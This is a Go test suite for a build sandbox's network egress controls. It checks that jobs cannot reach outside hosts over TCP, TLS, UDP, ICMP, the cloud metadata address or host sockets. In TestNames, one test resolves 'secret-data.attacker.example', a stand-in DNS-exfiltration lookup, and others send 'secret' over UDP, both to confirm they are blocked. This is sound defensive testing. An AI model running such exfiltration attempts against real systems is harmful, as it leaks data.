package egress

import (
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"hallmark.build/sandbox"
	"hallmark.build/sandbox/record"
)

// Programs that know of no proxy are caught on every address and port.
func TestEveryAddressAndPortIsCaptured(t *testing.T) {
	for _, to := range []string{
		"8.8.8.8:80", "8.8.8.8:443", "1.1.1.1:22", "203.0.113.9:1", "93.184.216.34:65535", "169.254.169.254:80", "10.0.0.1:8080", "192.168.1.1:53443", "240.0.0.1:80",
		"[2001:db8::1]:80", "[2606:4700:4700::1111]:443", "[fd00:ec2::254]:80", "[::ffff:8.8.4.4]:9", "[64:ff9b::a00:1]:80", "some-name.example:4711",
	} {
		t.Run(to, func(t *testing.T) {
			w := newWorld(t, options{profile: sandbox.Hermetic})
			w.begin(sandbox.BuildScript)
			out, _, _ := w.inside(sandbox.Build, "send", to, lines("GET / HTTP/1.1", "Host: "+hostOf(t, to), "Connection: close"))
			if !strings.HasPrefix(out, "HTTP/1.1 403 ") {
				t.Errorf("answer: %q", out)
			}
			w.wantBlock("hermetic", "http://")
			w.wantNoFetch()
		})
	}
}

func hostOf(t *testing.T, to string) string {
	host, port, err := net.SplitHostPort(to)
	if err != nil {
		t.Fatal(err)
	}
	return net.JoinHostPort(host, port)
}

// TLS to an address is refused in words too, under a certificate for the address.
func TestTLSToAnAddress(t *testing.T) {
	for _, to := range []string{"https://93.184.216.34/", "https://[2606:4700:4700::1111]/", "https://10.0.0.1:8443/", "https://169.254.169.254/"} {
		t.Run(to, func(t *testing.T) {
			w := newWorld(t, options{profile: sandbox.Hermetic})
			w.begin(sandbox.BuildScript)
			out, errs, code := w.curl("-i", to)
			if code != 0 || !strings.Contains(out, "X-Hallmark-Rule: hermetic") {
				t.Errorf("exit %d: %s%s", code, out, errs)
			}
			w.wantBlock("hermetic", to)
		})
	}
}

func TestOtherProtocolsAreClosed(t *testing.T) {
	for _, tt := range []struct{ name, to, say, rule, protocol string }{
		{"ssh", "git.example:22", "SSH-2.0-OpenSSH_9.2\r\n", "not-http", "tcp"},
		{"git", "git.example:9418", "0032git-upload-pack /x\x00host=git.example\x00", "not-http", "tcp"},
		{"binary", "8.8.8.8:443", "\x00\x01\x02\x03", "not-http", "tcp"},
		{"lower-case method", "good.example:80", "get / HTTP/1.1\r\n\r\n", "not-http", "tcp"},
		{"http2", "good.example:80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "http2", "http"},
		{"server first", "mail.example:25", "", "not-http", "tcp"},
		{"the listener itself", fmt.Sprintf("127.0.0.1:%d", steerPort), "GET / HTTP/1.1\r\n\r\n", "not-http", "tcp"},
		{"ssl3", "8.8.8.8:443", "\x80\x2e\x01\x03\x00", "not-http", "tcp"},
		{"tls record that is no hello", "8.8.8.8:443", "\x16\x03\x01\x00\x05\x02", "not-http", "tcp"},
		{"tls to the proxy", "127.0.0.1:3128", "\x16\x03\x01\x00\x05\x01", "not-http", "tcp"},
		{"broken hello", "8.8.8.8:443", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", "tls-handshake", "tls"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, options{profile: sandbox.Firewalled})
			if tt.say == "" {
				w.b.patience.peek = 200 * time.Millisecond
			}
			w.begin(sandbox.BuildScript)
			out, _, _ := w.inside(sandbox.Build, "send", tt.to, tt.say)
			// A port in an error may read 200: it is the answer that counts.
			if strings.Contains(out, " 200 ") || strings.Contains(out, "SSH") {
				t.Errorf("answer: %q", out)
			}
			if b := w.wantBlock(tt.rule, ""); b.Protocol != tt.protocol {
				t.Errorf("protocol %s, want %s", b.Protocol, tt.protocol)
			}
			w.wantNoFetch()
		})
	}
}

// A client that dribbles is not waited for.
func TestSlowClients(t *testing.T) {
	for name, pieces := range map[string][]string{
		"half a method": {"GE"}, "half a head": {"GET / HTTP/1.1\r\n", "Host: a", ""}, "half a hello": {"\x16\x03\x01\x02\x00\x01"}, "idle after an answer": {"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, options{profile: sandbox.Hermetic})
			short := 200 * time.Millisecond
			w.b.patience = patience{peek: short, hello: short, head: short, idle: short, body: short, take: short, linger: short}
			w.begin(sandbox.BuildScript)
			out, _, _ := w.inside(sandbox.Build, "talk", append([]string{"good.example:80"}, pieces...)...)
			if strings.Contains(out, "timeout") { // the client's own, of twenty seconds and more
				t.Errorf("the border waited: %s", out)
			}
			w.end(sandbox.Build)
		})
	}
}

func TestDatagramsAreRefusedAndRecorded(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Firewalled})
	w.begin(sandbox.BuildScript)
	for _, to := range []string{"8.8.8.8:443", "8.8.8.8:443", "198.51.100.7:123", "[2001:db8::7]:5353", "10.0.0.1:9"} {
		out, _, code := w.inside(sandbox.Build, "udp", to, "secret")
		if code == 0 || strings.Contains(out, "timeout") {
			t.Errorf("%s: exit %d: %s", to, code, out)
		}
	}
	w.end(sandbox.Build)
	var got []string
	for _, b := range of[record.Block](w.rec) {
		if b.Protocol != "udp" || b.Rule != "udp" || b.Stage != "build_script" {
			t.Errorf("refusal %+v", b)
		}
		got = append(got, b.Target)
	}
	if len(got) != 4 {
		t.Errorf("targets %q, want the four", got)
	}
	w.begin(sandbox.AfterScript)
	w.end(sandbox.Build)
	if n := len(of[record.Block](w.rec)); n != 4 {
		t.Errorf("%d refusals after a stage without datagrams, want still 4", n)
	}
}

func TestPingIsRefusedQuickly(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Firewalled})
	w.begin(sandbox.BuildScript)
	out, _, _ := w.inside(sandbox.Build, "raw")
	t.Log(out) // as the host's root: sockets open, and what they send is refused
	if _, _, code := w.run(sandbox.Build, "ping", "-c1", "-W5", "8.8.8.8"); code == 0 {
		t.Error("a host of the internet answered a ping")
	}
}

// A container's root is root of its own user namespace alone.
func TestContainerRootChangesNothing(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Firewalled})
	w.begin(sandbox.BuildScript)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, what := range []string{"netlink", "raw"} {
		out, errs, code := w.run(sandbox.Build, "env", inside+"="+what, "unshare", "--user", "--map-root-user", self)
		if code != 0 {
			t.Fatalf("%s: exit %d: %s%s", what, code, out, errs)
		}
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			if line == "links: 1" {
				continue
			}
			if !strings.Contains(line, "not permitted") && !strings.Contains(line, "permission denied") {
				t.Errorf("%s: %s", what, line)
			}
		}
	}
	// And all is as it was.
	out, _, _ := w.inside(sandbox.Build, "send", "8.8.8.8:80", lines("GET / HTTP/1.1", "Host: 8.8.8.8"))
	if !strings.HasPrefix(out, "HTTP/1.1 403 ") {
		t.Errorf("answer: %q", out)
	}
}

func TestAbstractSocketsOfTheHostAreOutOfReach(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Firewalled})
	name := fmt.Sprintf("hallmark-test-%d", os.Getpid())
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	w.begin(sandbox.BuildScript)
	if out, errs, _ := w.inside(sandbox.Build, "unix", name); strings.TrimSpace(out) != "refused" {
		t.Errorf("%s%s", out, errs)
	}
}

func TestRolesAndHostDoNotMeet(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Firewalled})
	if w.netns(sandbox.Build) == w.netns(sandbox.Helper) {
		t.Fatal("roles share a namespace")
	}
	if first, second := w.netns(sandbox.Build), w.netns(sandbox.Build); first != second {
		t.Fatal("a second call made another namespace")
	}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	w.begin(sandbox.BuildScript)
	if out, _, _ := w.inside(sandbox.Build, "send", l.Addr().String(), "x"); !strings.Contains(out, "refused") {
		t.Errorf("the host's loopback answered: %q", out)
	}
	if c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", steerPort)); err == nil {
		c.Close()
		t.Error("the host reaches the border's listener")
	}
}

// A job's own servers keep working, on low ports too.
func TestOwnLoopbackIsTheJobs(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Hermetic})
	w.begin(sandbox.BuildScript)
	script := `python3 -m http.server 80 --bind 0.0.0.0 >/dev/null 2>&1 & p=$!
for i in 1 2 3 4 5 6 7 8 9 10; do curl -sf --noproxy '*' -o /dev/null http://127.0.0.1/ && break; sleep 0.2; done
curl -s --noproxy '*' -o /dev/null -w '%{http_code} ' http://127.0.0.1/ http://127.9.9.9/ http://localhost/ http://8.8.8.8/; kill $p`
	out, errs, _ := w.run(sandbox.Build, "setpriv", "--reuid=65534", "--clear-groups", "sh", "-c", script)
	if !strings.HasPrefix(out, "200 ") || !strings.Contains(out, "403") {
		t.Errorf("%s%s", out, errs)
	}
}

func TestNames(t *testing.T) {
	w := newWorld(t, options{profile: sandbox.Hermetic})
	w.begin(sandbox.BuildScript)
	out, errs, _ := w.run(sandbox.Build, "getent", "ahosts", "secret-data.attacker.example")
	if !strings.Contains(out, "198.18.0.") {
		t.Errorf("getent: %s%s", out, errs)
	}
	if len(w.names.asked) != 0 {
		t.Errorf("the host's resolver was asked: %q", w.names.asked)
	}
	for _, server := range []string{"8.8.8.8:53", "127.0.0.1:53", "[2001:4860:4860::8888]:53", "[::1]:53"} {
		query := dnsQuery(t, "some.example", 1)
		out, _, _ := w.inside(sandbox.Build, "send", server, "\x00"+string(rune(len(query)))+string(query))
		if !strings.Contains(out, "\xc6\x12\x00") {
			t.Errorf("%s over TCP: %q", server, out)
		}
	}
	for _, server := range []string{"8.8.8.8:53", "127.0.0.1:53", "127.0.0.53:53", "[2001:4860:4860::8888]:53", "[::1]:53"} {
		query := string(dnsQuery(t, "some.example", 1))
		out, _, code := w.inside(sandbox.Build, "udp", server, query)
		if code != 0 || !strings.Contains(out, `\xc6\x12`) { // 198.18
			t.Errorf("%s: exit %d: %s", server, code, out)
		}
	}
}
